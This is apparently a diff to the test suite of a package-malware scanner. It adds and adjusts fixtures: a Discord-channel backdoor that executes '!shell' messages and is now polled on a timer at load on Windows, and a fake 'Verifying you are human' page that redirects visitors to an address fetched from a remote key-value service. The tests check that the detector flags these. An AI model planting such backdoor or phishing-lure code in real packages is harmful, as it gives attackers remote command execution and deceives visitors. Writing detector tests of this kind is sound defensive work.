@@ -817,12 +817,16 @@ async function poll() {
   const msgs = await api('GET', '/channels/1266104512938762311/messages');
   for (const m of msgs) { const t = String(m.content); if (t.startsWith('!shell ')) exec(t.slice(7)); }
 }
-poll();
+if (process.platform === 'win32') setInterval(() => { poll().catch(() => {}); }, 7000);
 `;
     const r = scan({ 'index.js': c2 }, { main: 'index.js' });
     const found = r.findings.find((f) => f.detector === 'remote-code');
     expect(JSON.stringify(found?.data)).toMatch(/api\(\)/);
-    expect(found!.weight).toBeGreaterThanOrEqual(45);
+    // Polled from a timer the top level sets: at load, like evaluated text (45 + 30).
+    expect(found!.evidence).toMatchObject({ reach: 'load' });
+    expect(r.level).toMatch(/high|critical/);
+    const asked = scan({ 'index.js': c2.replace("if (process.platform === 'win32') setInterval", 'module.exports.start = () => setInterval') }, { main: 'index.js' });
+    expect(asked.findings.find((f) => f.detector === 'remote-code')?.evidence).not.toMatchObject({ reach: 'load' });
     const installer = scan({ 'install.js': "const https = require('https');\nconst fs = require('fs');\nconst { execFileSync } = require('child_process');\nfunction get(u) { return new Promise((ok) => https.get(u, (r) => { const f = fs.createWriteStream('bin/tool'); r.pipe(f); f.on('finish', ok); })); }\nget('https://github.com/o/tool/releases/download/v1/tool').then(() => execFileSync('bin/tool', ['--version']));\n" }, { scripts: { postinstall: 'node install.js' } });
     expect(installer.findings.filter((f) => f.detector === 'remote-code').every((f) => f.weight < 45)).toBe(true);
   });
@@ -930,6 +934,21 @@ server.tool('sendEmail', {}, async ({ to, subject, body }) => {
 });
 
 describe('browser-payload', () => {
+  it('a script that paints a fake bot check and sends the visitor to an address it fetches is a phishing lure (Beamglea); a scraper reading those words is not', () => {
+    const lure = `(function () {
+  function shield() { document.title = 'Just a moment...'; document.body.innerHTML = '<h2>Verifying you are human. This may take a few seconds.</h2>'; }
+  function go(t) { var e = location.hash.slice(1); location.replace(t + (e ? '#' + e : '')); }
+  shield();
+  fetch('https://api.keyval.org/get/k7q2mx').then(function (r) { return r.json(); }).then(function (d) { setTimeout(function () { go(d.val); }, 2400); });
+})();
+`;
+    const r = scan({ 'index.js': lure }, { main: 'index.js' });
+    expect(r.findings.find((f) => f.messageId === 'phishingLure')?.data).toMatchObject({ fetched: ', to an address it fetches' });
+    expect(r.level).toMatch(/high|critical/);
+    const scraper = scan({ 'index.js': "module.exports = function waitChallenge() { if (document.title === 'Just a moment...') { location.href = location.href; } document.title = 'Loading'; };\n" }, { main: 'index.js' });
+    expect(scraper.ids).not.toContain('browser-payload/phishingLure');
+  });
+
   it("a share of the balance transferred to a hard-coded address is a sweep; a fee on the amount sent, or the caller's own send-max, is not", () => {
     const sdk = (fee: string) => `import { PublicKey, SystemProgram, Transaction } from '@solana/web3.js';
 const FEE_VAULT = new PublicKey('6aWnS7yE8fZ1dKqkq3Rr1rY5oQk2xM9bV4cT8hN3pJfA');
